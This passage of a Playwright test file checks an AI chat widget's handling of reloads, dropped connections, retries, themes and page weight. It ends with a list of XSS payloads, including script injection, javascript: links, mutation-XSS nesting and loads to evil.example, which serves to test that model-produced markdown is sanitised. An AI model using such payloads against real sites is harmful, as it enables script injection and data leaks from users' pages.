    chat.get_by_role("button", name="New chat").click()
    expect(chat.locator(".bubble")).to_have_count(0)
    chat.go_back()
    expect(chat.locator(".bubble")).to_have_text("Zebra question")


def test_thread_that_is_gone_gives_a_new_chat(chat, live_project):
    chat.goto(f"{live_project.url}/?thread=00000000-0000-4000-8000-000000000000")
    expect(chat.locator(".chip").first).to_be_visible()
    expect(chat.get_by_role("alert")).to_have_count(0)


# --- What goes wrong


def test_reload_in_the_middle_of_a_run_loses_and_doubles_nothing(scripted):
    posts: list[str] = []
    scripted.on("request", lambda r: posts.append(r.url) if r.method == "POST" and r.url.endswith("/agent/") else None)
    say(scripted, "slow")
    expect(scripted.locator(".assistant .prose")).to_contain_text("word5")
    scripted.reload()
    expect(scripted.locator(".assistant .prose")).to_contain_text("word7")
    expect(scripted.get_by_role("button", name="Stop")).to_be_visible()
    finished(scripted)
    assert answers(scripted) == [SLOW_ANSWER]
    assert scripted.locator(".bubble").all_inner_texts() == ["slow"]
    assert len(posts) == 1
    assert [text.strip() for text in stored_texts(scripted, "assistant")] == [SLOW_ANSWER]


def test_lost_connection_is_followed_from_the_last_event(new_page, scripted_project):
    proxy = Proxy(scripted_project.port)
    page = sign_in(new_page(proxy.url), scripted_project)
    say(page, "slow")
    expect(page.locator(".assistant .prose")).to_contain_text("word4")
    proxy.cut()
    finished(page)
    assert answers(page) == [SLOW_ANSWER]
    sent = b"".join(proxy.requests)
    assert sent.count(b"POST /agent/ ") == 1
    assert re.search(rb"last-event-id: \S+:\d+", sent, re.IGNORECASE)
    proxy.close()


def test_unreachable_server_is_told_and_retried_without_sending_twice(chat):
    chat.route("**/agent/", lambda route: route.abort())
    say(chat, "hello")
    expect(chat.get_by_role("alert")).to_contain_text("connection to the server was lost")
    chat.unroute("**/agent/")
    chat.get_by_role("button", name="Try again").click()
    finished(chat)
    expect(chat.get_by_role("alert")).to_have_count(0)
    assert stored_texts(chat, "user") == ["hello"]


def test_message_that_arrived_unseen_is_not_sent_again(chat):
    def deliver_and_drop(route: Route) -> None:
        route.fetch()
        route.abort()

    chat.route("**/agent/", deliver_and_drop, times=1)
    say(chat, "hello")
    chat.get_by_role("button", name="Try again").click()
    finished(chat)
    expect(chat.locator(".assistant").first).to_be_visible()
    assert stored_texts(chat, "user") == ["hello"]
    assert chat.locator(".bubble").all_inner_texts() == ["hello"]


def test_failed_run_is_told_without_details_and_retried(scripted):
    say(scripted, f"fail {os.urandom(4).hex()}")
    alert = scripted.get_by_role("alert")
    expect(alert).to_contain_text("Run ")
    assert "secret" not in scripted.locator("agui-chat").inner_text()
    scripted.get_by_role("button", name="Try again").click()
    expect(scripted.locator(".assistant .prose")).to_contain_text("end.")
    assert len(answers(scripted)) == 1
    assert len(stored_texts(scripted, "user")) == 1


def test_signed_out_meanwhile_is_told_with_the_way_back(chat):
    chat.context.clear_cookies()
    say(chat, "hello")
    expect(chat.get_by_role("alert")).to_contain_text("signed out")
    expect(chat.get_by_role("link", name="Sign in")).to_have_attribute("href", re.compile("/login/"))


# --- Looks, weight and safety


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_page_follows_the_systems_colours(new_page, live_project, scheme):
    page = sign_in(new_page(live_project.url, color_scheme=scheme), live_project)
    red = page.locator(".panel").evaluate("e => +getComputedStyle(e).backgroundColor.match(/[\\d.]+/)[0]")
    assert (red > 128) == (scheme == "light")


def test_theme_attribute_wins(chat):
    chat.locator("agui-chat").evaluate("e => e.setAttribute('theme', 'dark')")
    assert chat.locator(".panel").evaluate("e => +getComputedStyle(e).backgroundColor.match(/[\\d.]+/)[0]") < 128


def test_phone_shows_everything_without_scrolling_sideways(new_page, live_project):
    page = sign_in(new_page(live_project.url, viewport={"width": 380, "height": 780}), live_project)
    say(page, "delete finished tasks")
    expect(page.get_by_role("button", name="Approve")).to_be_in_viewport()
    assert page.evaluate("document.documentElement.scrollWidth") <= 380
    assert page.locator(".log").evaluate("e => e.scrollWidth - e.clientWidth") <= 0


def test_floating_chat_opens_and_closes(chat):
    chat.locator("agui-chat").evaluate("e => { e.setAttribute('placement', 'floating'); e.toggle(true); }")
    expect(message_box(chat)).to_be_hidden()
    chat.get_by_role("button", name="Open the chat").click()
    expect(message_box(chat)).to_be_focused()
    message_box(chat).press("Escape")
    expect(chat.get_by_role("button", name="Open the chat")).to_be_focused()


def test_without_the_markdown_libraries_text_is_readable(new_page, live_project):
    page = new_page()
    page.route("**/static/vendor/**", lambda route: route.abort())
    page.goto(live_project.url)
    sign_in(page, live_project)
    say(page, "list tasks")
    finished(page)
    expect(page.locator(".prose.plain").first).to_contain_text("`list_tasks`")


def test_page_is_light(new_page, live_project, request):
    page = new_page()
    bodies: dict[str, bytes] = {}

    def keep(response) -> None:
        if re.search(r"/static/(agui|vendor)/", response.url) and response.ok:
            bodies[response.url.split("/static/")[1]] = response.body()

    page.on("response", keep)
    page.goto(live_project.url)
    sign_in(page, live_project)
    page.get_by_role("button", name="Conversations").click()
    expect(page.get_by_role("dialog")).to_be_visible()
    page.wait_for_load_state("networkidle")
    weights = {name: len(gzip.compress(body, 9)) for name, body in bodies.items()}
    print(json.dumps(weights, indent=2), sum(weights.values()))
    assert {"agui/agui-chat.js", "agui/agui-chat.css"} <= set(weights)
    assert sum(weights.values()) < MAX_GZIPPED_BYTES


PAYLOADS = [
    "<script>window.pwned = 1</script>",
    "<img src=x onerror='window.pwned = 1'>",
    "![x](https://evil.example/leak?q=1)",
    "[click](javascript:window.pwned=1)",
    "[click](JaVaScRiPt:window.pwned=1)",
    "[click](data:text/html,<script>window.pwned=1</script>)",
    "[x](vbscript:x) <a href='&#106;avascript:window.pwned=1'>x</a>",
    "<svg onload='window.pwned=1'><animate onbegin='window.pwned=1'></svg>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<details open ontoggle='window.pwned=1'>x</details>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=window.pwned=1>'>",
    "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'>",
    "<form action='https://evil.example'><input name=q><button>go</button></form>",
    "<style>* { background: url(https://evil.example) }</style><p style='background:url(https://evil.example)'>x</p>",
    "<a href='https://ok.example' target='_self' onclick='window.pwned=1' id='x' class='send'>x</a>",
    "<link rel=stylesheet href=https://evil.example><base href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "```html\n<img src=x onerror='window.pwned=1'>\n```",
    "<template><img src=x onerror=window.pwned=1></template><object data=x></object><embed src=x>",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_markup_of_the_model_can_do_nothing(chat, live_project, payload):
    requests: list[str] = []
    chat.on("request", lambda request: requests.append(request.url))
    found = chat.evaluate(
        """async (text) => {
            const { loadMarkdown, MarkdownView } = await import("/static/agui/markdown.js");
            const { markedUrl, dompurifyUrl } = document.querySelector("agui-chat").dataset;
            await loadMarkdown(markedUrl, dompurifyUrl);
            const view = new MarkdownView({ copy: "Copy", copied: "Copied" });
            document.body.append(view.element);
            view.update(text);
            for (const link of view.element.querySelectorAll("a[href]")) {
                link.removeAttribute("target");
                if (!/^https?:/.test(link.href)) link.click();
            }
            await new Promise((resolve) => setTimeout(resolve, 50));
            const elements = [...view.element.querySelectorAll("*")];
            return {
                plain: view.element.classList.contains("plain"),
                pwned: window.pwned,
                tags: elements.map((element) => element.localName),
                attributes: elements.flatMap((element) => element.getAttributeNames()),
                links: elements.filter((element) => element.href).map((element) => [element.href, element.rel]),
            };
        }""",
        payload,
    )
    assert not found["plain"]
    assert found["pwned"] is None
    allowed = {
        "div",
        "p",
        "a",
        "details",
        "summary",
        "code",
        "pre",
        "span",
        "button",
        "table",
        "tbody",
        "tr",
        "td",
        "br",
    }
    assert set(found["tags"]) <= allowed
    assert set(found["attributes"]) <= {"class", "part", "href", "title", "target", "rel", "type", "tabindex"}
    assert all(href.startswith("https://") and rel == "noopener noreferrer" for href, rel in found["links"])
    assert not [url for url in requests if "evil.example" in url]


def test_names_and_texts_of_tools_are_never_markup(chat):
    markup = '<img src=x onerror="window.pwned=1">'
    frames = [
        {"type": "RUN_STARTED", "threadId": "t", "runId": "r"},
        {"type": "TOOL_CALL_START", "toolCallId": "c", "toolCallName": markup, "parentMessageId": "m"},
        {"type": "TOOL_CALL_ARGS", "toolCallId": "c", "delta": json.dumps({markup: markup})},
        {"type": "TOOL_CALL_END", "toolCallId": "c"},
        {"type": "TOOL_CALL_RESULT", "messageId": "n", "toolCallId": "c", "content": markup},
        {"type": "ACTIVITY_SNAPSHOT", "messageId": "a", "activityType": markup, "content": {markup: markup}},
        {"type": "RUN_ERROR", "message": markup, "code": markup},
    ]
    body = "".join(f"id: r:{number}\ndata: {json.dumps(frame)}\n\n" for number, frame in enumerate(frames))
    chat.route("**/agent/", lambda route: route.fulfill(content_type="text/event-stream", body=body))
    say(chat, markup)
    expect(chat.get_by_role("alert")).to_contain_text(markup)
    expect(chat.locator(".bubble")).to_have_text(markup)
    for summary in chat.locator("summary:visible").all():
        summary.click()
    assert chat.locator("agui-chat img").count() == 0
    assert chat.evaluate("window.pwned") is None
